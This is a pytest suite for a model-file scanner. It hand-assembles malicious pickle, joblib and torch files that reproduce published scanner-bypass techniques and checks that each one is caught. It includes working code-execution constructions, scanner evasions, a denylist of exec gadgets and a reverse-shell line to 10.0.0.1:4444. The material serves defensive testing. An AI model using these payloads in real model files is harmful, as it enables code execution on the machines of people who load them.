"""Every published pickle-scanner bypass (research note pickle_bypasses.md, section 2), built and caught.

Tests are named after the technique's number in the note. Payloads are assembled opcode by opcode, or
dumped with `pickle`/`joblib` from objects whose `__reduce__` names the callable; nothing is loaded.
"""

from __future__ import annotations

import io
import os
import pickle
import struct
import subprocess
import sys
import tarfile
import zipfile
from pathlib import Path
from typing import Any

import joblib
import numpy as np
import py7zr
import pytest

from modelshield import FileResult
from modelshield.core.findings import Finding
from modelshield.core.rules import Severity
from tests.conftest import ScanData
from tests.formats.pickle_build import (
    BUILD,
    DUP,
    EMPTY_DICT,
    MARK,
    MEMOIZE,
    NONE,
    POP,
    REDUCE,
    SETITEM,
    STACK_GLOBAL,
    STOP,
    TUPLE,
    TUPLE1,
    TUPLE2,
    binbytes,
    binget,
    binput,
    call,
    frame,
    glob,
    legacy_torch,
    proto,
    tensor_pickle,
    text,
)
from tests.helpers import evil_pickle, is_code_execution

APPEND, APPENDS, SETITEMS, ADDITEMS, EMPTY_SET = b"a", b"e", b"u", b"\x90", b"\x8f"
INST, OBJ, NEWOBJ, NEWOBJ_EX, EMPTY_TUPLE = b"i", b"o", b"\x81", b"\x92", b")"


class Payload:
    """Pickles as a call of `func(*args)`; only ever dumped here."""

    def __init__(self, func: Any, *args: Any) -> None:
        self.func = func
        self.args = args

    def __reduce__(self) -> tuple[Any, tuple[Any, ...]]:
        return self.func, self.args


def hits(
    result: FileResult,
    *,
    level: Severity = Severity.HIGH,
    rule: str | None = None,
    offset: int | None = None,
    members: tuple[str, ...] | None = (),
    quote: str = "",
) -> list[Finding]:
    """Findings at `level` or worse, optionally of one rule, at one offset, in one member chain
    (`()` is the file itself, None anywhere), whose evidence quotes `quote`."""
    return [
        f
        for f in result.findings
        if f.level >= level
        and (rule is None or f.rule_id == rule)
        and (offset is None or f.location.offset == offset)
        and (members is None or f.location.members == members)
        and quote in f.evidence
    ]


def system_call(command: str = "id") -> bytes:
    """`os.system(command)` with no PROTO and no STOP, to splice into other pickles."""
    return glob("os", "system") + text(command) + TUPLE1 + REDUCE


def zip_of(members: dict[str, bytes]) -> bytes:
    raw = io.BytesIO()
    with zipfile.ZipFile(raw, "w") as zf:
        for name, data in members.items():
            zf.writestr(zipfile.ZipInfo(name, date_time=(2024, 1, 1, 0, 0, 0)), data)
    return raw.getvalue()


def torch_zip(data_pkl: bytes) -> bytes:
    """The layout of `torch.save`'s zip format around a given `data.pkl`."""
    return zip_of({"archive/data.pkl": data_pkl, "archive/byteorder": b"little", "archive/version": b"3\n"})


# A. Container and format level ------------------------------------------------------------------------
@pytest.mark.parametrize("name", ["model.weights", "model.th", "tokenizer.model", "noextension", "notes.txt"])
def test_a01_pickle_under_any_name_is_scanned(scan_data: ScanData, name: str) -> None:
    data = evil_pickle()
    assert hits(scan_data(data, name), level=Severity.CRITICAL, rule="PKL001", offset=len(data) - 2)


@pytest.mark.parametrize("name", ["pytorch_model.bin", "model.pt", "model.pth", "model.ckpt"])
def test_a02_plain_pickle_under_torch_name_is_scanned_not_rejected(scan_data: ScanData, name: str) -> None:
    data = evil_pickle(protocol=4)
    assert hits(scan_data(data, name), level=Severity.CRITICAL, rule="PKL001", offset=len(data) - 2)


@pytest.mark.parametrize(
    "payload",
    [evil_pickle(protocol=2), evil_pickle(protocol=0), pickle.dumps(Payload(os.system, "id"), protocol=1)],
    ids=["protocol2", "protocol0", "protocol1"],
)
def test_a03_zip_member_with_non_pickle_name(scan_data: ScanData, payload: bytes) -> None:
    data = zip_of({"archive/data.pkl": pickle.dumps({}, protocol=2), "archive/notes.txt": payload})
    result = scan_data(data, "model.pt")
    assert hits(result, level=Severity.CRITICAL, rule="PKL001", members=("archive/notes.txt",))


def test_a09_sevenzip_torch_archive_with_payload_before_a_break(scan_data: ScanData, tmp_path: Path) -> None:
    """nullifAI: a reverse shell at the start of a data.pkl that breaks right after it, inside a 7z."""
    broken = evil_pickle("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1")[:-1] + b"\xff\x00 corrupt"
    path = tmp_path / "model.7z"
    with py7zr.SevenZipFile(path, "w") as archive:
        archive.writestr(torch_zip(broken), "model.pt")
    result = scan_data(path.read_bytes(), "model.7z")
    members = ("model.pt", "archive/data.pkl")
    assert hits(result, level=Severity.CRITICAL, rule="PKL001", members=members, quote="/dev/tcp/")
    assert hits(result, level=Severity.MEDIUM, rule="PKL014", members=members)


@pytest.mark.parametrize("codec", ["zlib", "gzip", "bz2", "xz", "lzma", "lz4"])
def test_a10_compressed_joblib(scan_data: ScanData, tmp_path: Path, codec: str) -> None:
    path = tmp_path / "model.joblib"
    joblib.dump({"coef": np.ones(3), "hook": Payload(os.system, "id")}, path, compress=(codec, 3))
    result = scan_data(path.read_bytes(), "model.joblib")
    assert hits(result, level=Severity.CRITICAL, rule="PKL001", members=None, quote="os.system('id')")


def test_a11_joblib_inline_arrays_do_not_hide_later_payloads(scan_data: ScanData, tmp_path: Path) -> None:
    objects = np.empty(2, dtype=object)
    objects[:] = ["label", Payload(os.system, "inside the object array")]
    path = tmp_path / "model.joblib"
    joblib.dump([np.arange(1000.0), objects, np.ones((4, 4)), Payload(os.system, "after the arrays")], path)
    result = scan_data(path.read_bytes(), "model.joblib")
    for command in ("inside the object array", "after the arrays"):
        assert hits(result, level=Severity.CRITICAL, rule="PKL001", quote=command), command


def test_a12_legacy_torch_tar_format(scan_data: ScanData) -> None:
    raw = io.BytesIO()
    with tarfile.open(fileobj=raw, mode="w") as tf:
        for name, data in [
            ("sys_info", pickle.dumps({"protocol_version": 1000, "little_endian": True}, protocol=2)),
            ("pickle", evil_pickle("id")),
            ("storages", pickle.dumps(0, protocol=2)),
            ("tensors", pickle.dumps(0, protocol=2)),
        ]:
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tf.addfile(info, io.BytesIO(data))
    result = scan_data(raw.getvalue(), "model.pt")
    assert hits(result, level=Severity.CRITICAL, rule="PKL001", members=("pickle",))


def test_a13_legacy_stacked_torch_payload_in_main_pickle(scan_data: ScanData) -> None:
    main = tensor_pickle("0", system_call() + POP)
    data = legacy_torch(main, {"0": b"\0" * 16})
    offset = data.index(main) + len(proto(2)) + len(system_call()) - 1
    assert hits(scan_data(data, "model.pth"), level=Severity.CRITICAL, rule="PKL001", offset=offset)


def test_a13_multiple_stops(scan_data: ScanData) -> None:
    """coldwaterq_inject_calc.pt: a payload pickle stacked after a complete benign one."""
    first = pickle.dumps({"state_dict": {}}, protocol=2)
    data = first + evil_pickle("calc.exe")
    assert hits(scan_data(data, "model.pt"), level=Severity.CRITICAL, rule="PKL001", offset=len(data) - 2)


def test_a14_pickle_zip_polyglot(scan_data: ScanData) -> None:
    payload = evil_pickle()
    data = payload + torch_zip(pickle.dumps({"w": [1.0]}, protocol=2))
    result = scan_data(data, "model.pt")
    assert hits(result, level=Severity.CRITICAL, rule="PKL001", offset=len(payload) - 2)
    assert hits(result, level=Severity.LOW, rule="SCN002")  # both views are scanned and the polyglot reported


def test_a15_benign_pickle_then_malicious_pickle(scan_data: ScanData) -> None:
    data = pickle.dumps([1, 2, 3], protocol=4) + evil_pickle(protocol=4)
    assert hits(scan_data(data), level=Severity.CRITICAL, rule="PKL001", offset=len(data) - 2)


@pytest.mark.parametrize("protocol", [0, 2, 4])
def test_a15_garbage_between_pickles_then_payload(scan_data: ScanData, protocol: int) -> None:
    first = pickle.dumps({"a": 1}, protocol=2)
    data = first + b"\x00\x01garbage\xfe" * 4 + evil_pickle(protocol=protocol)
    result = scan_data(data)
    assert hits(result, level=Severity.LOW, rule="PKL015", offset=len(first))
    assert hits(result, level=Severity.CRITICAL, rule="PKL001", offset=len(data) - 2)


# B. Parser-differential and VM-semantics level --------------------------------------------------------
def test_b16_frame_crossing_hides_opcodes_from_linear_readers(scan_data: ScanData) -> None:
    """cpython#154848: BINBYTES declares a length past its frame; old C unpicklers run the tail."""
    hidden = system_call() + POP
    body = b"B" + struct.pack("<I", len(hidden) + 1)
    data = proto(4) + frame(body) + hidden + NONE + STOP
    result = scan_data(data)
    assert hits(result, level=Severity.HIGH, rule="PKL013")
    reduce_at = len(proto(4)) + 9 + len(body) + len(hidden) - 2
    assert hits(result, level=Severity.CRITICAL, rule="PKL001", offset=reduce_at)


def test_b16_nested_frame(scan_data: ScanData) -> None:
    inner = frame(system_call() + STOP)
    data = proto(4) + frame(inner[:9]) + inner[9:]
    result = scan_data(data)
    assert hits(result, level=Severity.HIGH, rule="PKL013")
    assert hits(result, level=Severity.CRITICAL, rule="PKL001")


def test_b17_memo_is_not_shared_between_pickles(scan_data: ScanData) -> None:
    first = proto(4) + text("torch._utils") + binput(0) + text("_rebuild_tensor_v2") + binput(1) + STACK_GLOBAL + STOP
    second = proto(4) + text("os") + binput(0) + text("system") + binput(1) + POP + POP
    second += binget(0) + binget(1) + STACK_GLOBAL + text("id") + TUPLE1 + REDUCE + STOP
    result = scan_data(first + second, "model.pkl")
    assert hits(result, level=Severity.CRITICAL, rule="PKL001", offset=len(first + second) - 2, quote="os.system")


@pytest.mark.parametrize(
    "head",
    [
        text("os") + MEMOIZE + binget(0) + MEMOIZE + POP + text("system"),  # a BINGET memoized again
        text("os") + DUP + MEMOIZE + POP + text("system"),  # DUP then MEMOIZE
        text("os") + binput(7) + binget(7) + binput(8) + POP + text("system"),  # PUT after GET
    ],
    ids=["double-memo", "dup-memoize", "put-after-get"],
)
def test_b18_memo_laundering(scan_data: ScanData, head: bytes) -> None:
    data = proto(4) + head + STACK_GLOBAL + text("id") + TUPLE1 + REDUCE + STOP
    assert hits(scan_data(data), level=Severity.CRITICAL, rule="PKL001", offset=len(data) - 2, quote="os.system('id')")


def _string(value: str) -> bytes:
    return b"S'" + value.encode() + b"'\n"


def _binstring(value: str) -> bytes:
    return b"T" + struct.pack("<i", len(value)) + value.encode()


def _short_binstring(value: str) -> bytes:
    return b"U" + bytes([len(value)]) + value.encode()


@pytest.mark.parametrize("string", [_string, _binstring, _short_binstring, text], ids=lambda f: f.__name__)
@pytest.mark.parametrize("headless", [False, True], ids=["proto4", "at-index-0"])
def test_b19_stack_global_operand_spellings(scan_data: ScanData, string: Any, headless: bool) -> None:
    body = string("os") + string("system") + STACK_GLOBAL + string("id") + TUPLE1 + REDUCE + STOP
    data = body if headless else proto(4) + body
    assert hits(scan_data(data), level=Severity.CRITICAL, rule="PKL001", offset=len(data) - 2, quote="os.system")


def test_b19_stack_global_through_memo_indirection(scan_data: ScanData) -> None:
    data = proto(4) + text("system") + binput(3) + text("os") + binput(4) + POP + POP
    data += binget(4) + binget(3) + STACK_GLOBAL + text("id") + TUPLE1 + REDUCE + STOP
    assert hits(scan_data(data), level=Severity.CRITICAL, rule="PKL001", offset=len(data) - 2)


@pytest.mark.parametrize(
    "bad",
    [
        binget(9),  # missing key
        b"j" + struct.pack("<I", 2**32 - 1),  # LONG_BINGET beyond any memo
        b"gnot-a-number\n",  # GET with a non-integer key
        b"p-1\n",  # negative PUT
        binbytes(b"os") + binbytes(b"system") + STACK_GLOBAL,  # bytes operands are not names
    ],
    ids=["binget-missing", "long-binget", "get-text", "negative-put", "bytes-operands"],
)
def test_b19_invalid_operands_are_malformed_findings_not_crashes(scan_data: ScanData, bad: bytes) -> None:
    prefix = proto(4) + system_call() + POP + text("x")
    data = prefix + bad + STOP
    result = scan_data(data)
    error_at = len(prefix) + (len(bad) - 1 if bad.endswith(STACK_GLOBAL) else 0)
    assert hits(result, level=Severity.MEDIUM, rule="PKL014", offset=error_at)
    assert hits(result, level=Severity.CRITICAL, rule="PKL001")  # what ran before the break is kept
    assert not [f for f in result.findings if f.rule_id.startswith("SCN")]


def test_b20_names_built_at_runtime(scan_data: ScanData) -> None:
    """modelscan #331: import_module('builtins') -> getattr(.., 'str') -> str.join -> STACK_GLOBAL."""
    builtins_mod = glob("importlib", "import_module") + text("builtins") + TUPLE1 + REDUCE
    str_type = glob("builtins", "getattr") + builtins_mod + text("str") + TUPLE2 + REDUCE
    join = glob("builtins", "getattr") + str_type + text("join") + TUPLE2 + REDUCE
    os_name = join + MARK + text("") + b"]" + MARK + text("o") + text("s") + APPENDS + TUPLE + REDUCE
    data = proto(4) + os_name + text("system") + STACK_GLOBAL + text("id") + TUPLE1 + REDUCE + STOP
    result = scan_data(data)
    assert hits(result, level=Severity.CRITICAL, rule="PKL008", offset=len(proto(4) + os_name) - 1)
    assert hits(result, level=Severity.CRITICAL, rule="PKL003", offset=len(data) - 2, quote="'system'>('id')")


@pytest.mark.parametrize(
    ("module", "name", "rule"),
    [
        ("pathlib", "os.system", "PKL001"),
        ("torch.serialization", "os.system", "PKL001"),
        ("builtins", "print.__class__.__base__.__subclasses__", "PKL004"),
        ("numpy", "__builtins__", "PKL004"),
        ("collections", "OrderedDict.__init__.__globals__", "PKL004"),
    ],
)
def test_b21_dotted_attribute_path_reaches_dangerous_objects(
    scan_data: ScanData, module: str, name: str, rule: str
) -> None:
    # PROTO 2 first, then PROTO 4 mid-stream: the dotted walk is judged whatever the protocol.
    data = proto(2) + proto(4) + text(module) + text(name) + STACK_GLOBAL + EMPTY_TUPLE + REDUCE + STOP
    assert hits(scan_data(data), level=Severity.CRITICAL, rule=rule, offset=len(data) - 2)


def test_b21_long_dotted_names_are_judged_in_linear_time(scan_data: ScanData) -> None:
    name = ".".join(["a"] * 30_000) + ".system"
    data = proto(4) + text("os") + text(name) + STACK_GLOBAL + STOP
    assert hits(scan_data(data), level=Severity.CRITICAL, rule="PKL001")  # quadratic would take minutes here


@pytest.mark.parametrize(
    ("module", "name", "rule", "loader_name"),
    [
        ("cPickle", "loads", "PKL007", "pickle.loads"),
        ("commands", "getoutput", "PKL001", "subprocess.getoutput"),
        ("urllib2", "urlopen", "PKL005", "urllib.request.urlopen"),
        ("__builtin__", "reduce", "PKL002", "functools.reduce"),
        ("urllib", "urlretrieve", "PKL005", "urllib.request.urlretrieve"),
    ],
)
def test_b22_python2_names_are_judged_as_the_loader_maps_them(
    scan_data: ScanData, module: str, name: str, rule: str, loader_name: str
) -> None:
    data = proto(2) + glob(module, name) + text("x") + TUPLE1 + REDUCE + STOP
    result = scan_data(data)
    assert hits(result, rule=rule, offset=len(data) - 2, quote=f"{loader_name}('x') (raw: {module}.{name})")


def _inst(command: str) -> bytes:
    return MARK + text(command) + INST + b"os\nsystem\n" + STOP


def _obj(command: str) -> bytes:
    return proto(2) + MARK + glob("os", "system") + text(command) + OBJ + STOP


def _newobj(command: str) -> bytes:
    return proto(2) + glob("subprocess", "Popen") + text(command) + TUPLE1 + NEWOBJ + STOP


def _newobj_ex(command: str) -> bytes:
    return proto(4) + glob("subprocess", "Popen") + text(command) + TUPLE1 + EMPTY_DICT + NEWOBJ_EX + STOP


def _obj_popped(command: str) -> bytes:
    return proto(2) + MARK + glob("os", "system") + text(command) + OBJ + POP + NONE + STOP


@pytest.mark.parametrize(
    ("build", "back"),
    [(_inst, 1), (_obj, 1), (_newobj, 1), (_newobj_ex, 1), (_obj_popped, 3)],
    ids=["INST", "OBJ", "NEWOBJ", "NEWOBJ_EX", "OBJ-popped"],
)
def test_b23_calls_without_reduce(scan_data: ScanData, build: Any, back: int) -> None:
    """`back`: how many opcodes before the end the call sits (INST's arguments are before its lines)."""
    data = build("id")
    call_at = data.rindex(INST) if build is _inst else len(data) - 1 - back
    assert hits(scan_data(data), level=Severity.CRITICAL, rule="PKL001", offset=call_at)


@pytest.mark.parametrize(
    ("target", "mutation", "opcode"),
    [
        (glob("os", "environ"), text("LD_PRELOAD") + text("/tmp/x.so") + SETITEM, SETITEM),
        (glob("os", "environ"), MARK + text("PATH") + text("/tmp") + SETITEMS, SETITEMS),
        (glob("sys", "path"), text("/tmp/evil") + APPEND, APPEND),
        (glob("sys", "path"), MARK + text("/tmp/evil") + APPENDS, APPENDS),
        (glob("sys", "meta_path"), MARK + glob("mylib", "Finder") + ADDITEMS, ADDITEMS),
    ],
    ids=["SETITEM-environ", "SETITEMS-environ", "APPEND-sys.path", "APPENDS-sys.path", "ADDITEMS"],
)
def test_b23_container_opcodes_on_objects_that_are_not_fresh(
    scan_data: ScanData, target: bytes, mutation: bytes, opcode: bytes
) -> None:
    data = proto(4) + target + mutation + STOP
    assert hits(scan_data(data), level=Severity.CRITICAL, rule="PKL010", offset=len(data) - 2)


def test_b23_container_opcode_on_a_loader_computed_object(scan_data: ScanData) -> None:
    data = proto(2) + text("obj") + b"Q" + text("k") + text("v") + SETITEM + STOP
    assert hits(scan_data(data), level=Severity.HIGH, rule="PKL010", offset=len(data) - 2)


def test_b23_build_on_a_function(scan_data: ScanData) -> None:
    data = proto(2) + glob("collections", "namedtuple") + EMPTY_DICT + text("__code__") + NONE + SETITEM + BUILD + STOP
    assert hits(scan_data(data), level=Severity.CRITICAL, rule="PKL009", offset=len(data) - 2)


def test_b24_numpy_size_allowlist_poisoning(scan_data: ScanData) -> None:
    """modelscan #330: numpy.size.shape = numpy.__builtins__; numpy.size(numpy.size, 'eval') is eval."""
    state = EMPTY_DICT + text("shape") + proto(4) + text("numpy") + text("__builtins__") + STACK_GLOBAL + SETITEM
    poisoned = glob("numpy", "size") + binput(0) + state + BUILD
    fetch_eval = binget(0) + MARK + binget(0) + text("eval") + TUPLE + REDUCE
    data = proto(4) + poisoned + POP + fetch_eval + text("__import__('os').system('id')") + TUPLE1 + REDUCE + STOP
    result = scan_data(data)
    assert hits(result, level=Severity.CRITICAL, rule="PKL009", offset=len(proto(4) + poisoned) - 1)
    assert hits(result, level=Severity.CRITICAL, rule="PKL004", quote="numpy.__builtins__")
    assert hits(result, level=Severity.CRITICAL, rule="PKL008", offset=len(data) - 2)


def test_b24_builtins_namespace_injection(scan_data: ScanData) -> None:
    """modelscan #338: builtins.__setattr__('x', os.system), then GLOBAL builtins x."""
    plant = glob("builtins", "__setattr__") + text("helper") + glob("os", "system") + TUPLE2 + REDUCE + POP
    data = proto(2) + plant + glob("builtins", "helper") + text("id") + TUPLE1 + REDUCE + STOP
    result = scan_data(data)
    assert hits(result, level=Severity.CRITICAL, rule="PKL004", offset=data.index(b"R"))
    assert hits(result, level=Severity.CRITICAL, rule="PKL001", quote="os.system")


@pytest.mark.parametrize("ext", [b"\x82\x07", b"\x83\x07\x01", b"\x84\x07\x00\x01\x00"], ids=["EXT1", "EXT2", "EXT4"])
def test_b25_extension_registry(scan_data: ScanData, ext: bytes) -> None:
    data = proto(2) + ext + text("id") + TUPLE1 + REDUCE + STOP
    assert hits(scan_data(data), level=Severity.CRITICAL, rule="PKL011", offset=len(data) - 2)


# C. Denylist gaps: every gadget the note names --------------------------------------------------------
GADGETS = """pip main|runpy _run_code|timeit timeit|cProfile run|profile run|trace Trace|pdb run|bdb Bdb
code InteractiveInterpreter|idlelib.pyshell ModifiedInterpreter|idlelib.run exec|idlelib.debugger_r start_debugger
numpy.testing._private.utils runstring|numpy.f2py.crackfortran getlincoef|torch._dynamo.guards GuardBuilder.get
torch.fx.experimental.symbolic_shapes ShapeEnv.evaluate_guards_expression|torch._inductor.codecache compile_file
torch.utils.collect_env run|uuid _get_command_stdout|imaplib IMAP4_stream|_osx_support _read_output
_aix_support _read_cmd_output|_pyrepl.pager pipe_pager|_pyrepl.console InteractiveColoredConsole|pty spawn
venv create|mlflow.projects.backend.local _run_entry_point|multiprocessing.util spawnv_passfds
_posixsubprocess fork_exec|builtins __import__|builtins getattr|builtins setattr|importlib import_module
pkgutil resolve_name|pydoc locate|operator attrgetter|operator itemgetter|operator methodcaller|functools partial
functools reduce|types CodeType|types FunctionType|marshal loads|dill._dill _create_function|dill._dill _create_code
dill._dill _load_type|cloudpickle.cloudpickle _make_function|cloudpickle.cloudpickle _make_skeleton_class
cloudpickle.cloudpickle subimport|cloudpickle.cloudpickle _builtin_type|cloudpickle.cloudpickle _make_cell
cloudpickle.cloudpickle _function_setstate|cloudpickle.cloudpickle_fast _make_function|pickle loads
torch.storage _load_from_bytes|numpy load|pandas read_pickle|joblib load|torch load
transformers.models.auto.auto_factory getattribute_from_module|transformers AutoModel.from_pretrained|io FileIO
_io FileIO|logging FileHandler|distutils.file_util write_file|ssl get_server_certificate|urllib.request urlopen
smtplib SMTP|ftplib FTP|pandas read_csv|ctypes CDLL|asyncio.unix_events _UnixSelectorEventLoop
asyncio.subprocess create_subprocess_shell|operator delitem|builtins __setattr__|sys modules"""


@pytest.mark.parametrize("gadget", GADGETS.replace("\n", "|").split("|"))
def test_c26_to_c31_gadgets_are_high_or_critical(scan_data: ScanData, gadget: str) -> None:
    module, name = gadget.split()
    data = call(module, name, text("x"))
    assert hits(scan_data(data), offset=len(data) - 2), gadget


def test_c27_reconstructor_with_a_non_standard_shape(scan_data: ScanData) -> None:
    """`_reconstructor(cls, Popen, 'id')` runs `Popen.__init__(object.__new__(cls), 'id')`."""
    cls, base = glob("collections", "OrderedDict"), glob("subprocess", "Popen")
    data = call("copyreg", "_reconstructor", cls, base, text("id"))
    result = scan_data(data)
    assert hits(result, level=Severity.CRITICAL, rule="PKL002", offset=len(data) - 2)
    assert hits(result, level=Severity.CRITICAL, rule="PKL001", quote="subprocess.Popen")


@pytest.mark.parametrize(
    ("forwarded", "rule", "level"),
    [(glob("os", "system"), "PKL001", Severity.CRITICAL), (glob("numpy.core.multiarray", "_reconstruct"), None, None)],
    ids=["os.system", "numpy-reconstruct"],
)
def test_c28_dill_array_helper_is_judged_by_the_call_it_makes(
    scan_data: ScanData, forwarded: bytes, rule: str | None, level: Severity | None
) -> None:
    """dill pickles arrays as `_create_array(f, args, state, npdict)`, which calls `f(*args)`."""
    data = call("dill._dill", "_create_array", forwarded, text("id") + TUPLE1, NONE, NONE)
    result = scan_data(data)
    if rule is None:
        assert not hits(result, level=Severity.MEDIUM, members=None)
    else:
        assert hits(result, level=level or Severity.HIGH, rule=rule, offset=len(data) - 2, quote="os.system('id')")


def test_c29_partial_of_torch_load(scan_data: ScanData) -> None:
    args = glob("torch", "load") + text("other.pt") + TUPLE2
    data = proto(4) + glob("functools", "partial") + args + REDUCE + EMPTY_TUPLE + REDUCE + STOP
    result = scan_data(data)
    # The partial is judged as the torch.load call it prepares; calling it at load stays critical.
    assert hits(result, level=Severity.HIGH, rule="PKL007", offset=data.index(REDUCE), quote="torch.load")
    assert hits(result, level=Severity.CRITICAL, rule="PKL008", offset=len(data) - 2)


def test_c29_from_the_hub_through_getattribute_from_module(scan_data: ScanData) -> None:
    """modelscan #338: getattribute_from_module(AutoTokenizer, 'from_pretrained')('attacker/repo')."""
    fetch = glob("transformers.models.auto.auto_factory", "getattribute_from_module")
    fetch += glob("transformers", "AutoTokenizer") + text("from_pretrained") + TUPLE2 + REDUCE
    data = proto(4) + fetch + text("attacker/repo") + TUPLE1 + REDUCE + STOP
    result = scan_data(data)
    assert hits(result, level=Severity.CRITICAL, rule="PKL002", offset=data.index(REDUCE))
    assert hits(result, level=Severity.CRITICAL, rule="PKL008", offset=len(data) - 2)


@pytest.mark.parametrize("protocol", [2, 4])
def test_c29_nested_pickle_in_bytes_is_scanned_as_written_by_pickle(scan_data: ScanData, protocol: int) -> None:
    """Protocol 2 spells bytes `_codecs.encode(text, 'latin1')`: the payload inside is still scanned."""
    inner = pickle.dumps(Payload(os.system, "nested"), protocol=2)
    data = pickle.dumps(Payload(pickle.loads, inner), protocol=protocol)
    result = scan_data(data)
    assert hits(result, rule="PKL007", offset=data.rindex(REDUCE))
    nested = hits(result, level=Severity.CRITICAL, rule="PKL001", members=None, quote="os.system('nested')")
    assert nested and nested[0].location.members[0].startswith("<nested pickle @")


def test_c29_nested_pickle_of_computed_bytes_is_critical(scan_data: ScanData) -> None:
    decoded = glob("base64", "b64decode") + text("gASV...") + TUPLE1 + REDUCE
    data = proto(4) + glob("pickle", "loads") + decoded + TUPLE1 + REDUCE + STOP
    found = hits(scan_data(data), level=Severity.CRITICAL, rule="PKL007", offset=len(data) - 2)
    assert found and "cannot be scanned" in found[0].evidence


def test_c29_deeply_nested_loader_arguments_keep_the_finding(scan_data: ScanData) -> None:
    data = proto(4) + glob("torch", "load") + NONE + TUPLE1 * 50_000 + TUPLE1 + REDUCE + STOP
    result = scan_data(data)
    assert hits(result, rule="PKL007", offset=len(data) - 2)
    assert not [f for f in result.findings if f.rule_id.startswith("SCN")]


@pytest.mark.parametrize("module", ["asyncio.unix_events", "asyncio.subprocess", "asyncio.base_subprocess"])
def test_c31_submodule_escapes(scan_data: ScanData, module: str) -> None:
    data = call(module, "Popen", text("id"))
    assert hits(scan_data(data), level=Severity.CRITICAL, rule="PKL001", offset=len(data) - 2)


def test_c32_sleepy_pickle_patches_a_module(scan_data: ScanData) -> None:
    """Tamper with the model's code instead of running a command: BUILD on torch.nn.functional."""
    state = EMPTY_DICT + text("relu") + glob("builtins", "print") + SETITEM
    data = proto(2) + glob("torch.nn", "functional") + state + BUILD + POP + pickle.dumps({}, protocol=2)[2:]
    assert hits(scan_data(data), level=Severity.CRITICAL, rule="PKL009", offset=data.index(SETITEM + BUILD) + 1)


def test_c32_sleepy_pickle_setattr_on_a_class(scan_data: ScanData) -> None:
    target = glob("torch.nn.modules.linear", "Linear") + text("forward") + glob("builtins", "print")
    data = proto(2) + glob("builtins", "setattr") + MARK + target + TUPLE + REDUCE + STOP
    assert hits(scan_data(data), level=Severity.CRITICAL, rule="PKL002", offset=len(data) - 2)


@pytest.mark.parametrize(
    "cleanup",
    [
        glob("operator", "delitem") + glob("sys", "modules") + text("payload") + TUPLE2 + REDUCE,
        glob("sys", "modules") + text("payload") + NONE + SETITEM,
    ],
    ids=["operator.delitem", "SETITEM"],
)
def test_c32_sys_modules_cleanup(scan_data: ScanData, cleanup: bytes) -> None:
    """ykilcher/totally-harmless-model: `del sys.modules[...]` after the payload ran."""
    data = proto(2) + cleanup + STOP
    assert hits(scan_data(data), level=Severity.CRITICAL, offset=len(data) - 2)


def test_c32_exception_oriented_programming(scan_data: ScanData) -> None:
    """The payload runs, then the pickle raises on purpose; a loader that catches the error and reads on
    (`while True: try: pickle.load(f) ...`) reaches the next pickle. Both parts must be reported."""
    raising = proto(2) + system_call("first") + POP + glob("builtins", "int") + text("not a number") + TUPLE1
    raising += REDUCE + text("x") + REDUCE  # REDUCE with a str, not a tuple: the loader raises here
    data = raising + evil_pickle("second")
    result = scan_data(data)
    assert hits(result, level=Severity.CRITICAL, rule="PKL001", quote="first")
    assert hits(result, level=Severity.MEDIUM, rule="PKL014", offset=len(raising) - 1)
    assert hits(result, level=Severity.CRITICAL, rule="PKL001", offset=len(data) - 2, quote="second")


# Fail closed --------------------------------------------------------------------------------------------
@pytest.mark.parametrize(
    "data",
    [
        proto(4) + frame(b"") + b"\x95\xff\xff",  # truncated FRAME header
        proto(2) + b"X\xff\xff\x00\x00abc",  # string longer than the file
        proto(2) + b"]" + b"q\x00" * 20 + b"\xf0",  # invalid opcode
        proto(2) + b"(" * 10 + b"t" * 11,  # stack underflow
        proto(2) + NONE * 10,  # no STOP
    ],
    ids=["frame", "truncated-string", "invalid-opcode", "underflow", "no-stop"],
)
def test_parse_errors_are_findings_never_silent(scan_data: ScanData, data: bytes) -> None:
    result = scan_data(data, "model.pkl")
    assert result.format == "pickle"
    assert hits(result, level=Severity.MEDIUM, rule="PKL014")


@pytest.mark.parametrize("header", [b"\x80\x00", b"\x80\x01"])
def test_protocol_0_and_1_headers_are_recognised(scan_data: ScanData, header: bytes) -> None:
    """The loader accepts PROTO 0 and 1 although no pickler writes them."""
    data = header + evil_pickle(protocol=0)
    result = scan_data(data, "weights.bin")
    assert result.format == "pickle"
    assert hits(result, level=Severity.CRITICAL, rule="PKL001", offset=len(data) - 2)


def _memo_laundered(command: str) -> bytes:
    head = text("os") + MEMOIZE + binget(0) + MEMOIZE + POP + text("system")
    return proto(4) + head + STACK_GLOBAL + text(command) + TUPLE1 + REDUCE + STOP


def _binstring_operands(command: str) -> bytes:
    return _binstring("os") + _binstring("system") + STACK_GLOBAL + text(command) + TUPLE1 + REDUCE + STOP


def _proto1_header(command: str) -> bytes:
    return b"\x80\x01" + glob("os", "system") + _string(command) + TUPLE1 + REDUCE + STOP


def _dotted(command: str) -> bytes:
    return proto(4) + text("pathlib") + text("os.system") + STACK_GLOBAL + text(command) + TUPLE1 + REDUCE + STOP


@pytest.mark.parametrize(
    "build", [_memo_laundered, _binstring_operands, _proto1_header, _dotted, _inst, _obj, _obj_popped]
)
def test_hand_built_payloads_really_run_and_scanning_does_not_run_them(
    scan_data: ScanData, tmp_path: Path, build: Any
) -> None:
    """Positive control: each construction runs its command under CPython's loader (in a child process,
    on a harmless `touch`), so the tests above exercise real attacks; the scan itself never runs it."""
    marker = tmp_path / "modelshield-marker-control"
    data = build(f"touch {marker}")
    assert is_code_execution(scan_data(data))
    assert not marker.exists()
    loader = "import pickle, sys; pickle.loads(sys.stdin.buffer.read())"
    subprocess.run([sys.executable, "-c", loader], input=data, check=False, capture_output=True, timeout=60)
    assert marker.exists(), f"{build.__name__} does not run under CPython's loader"
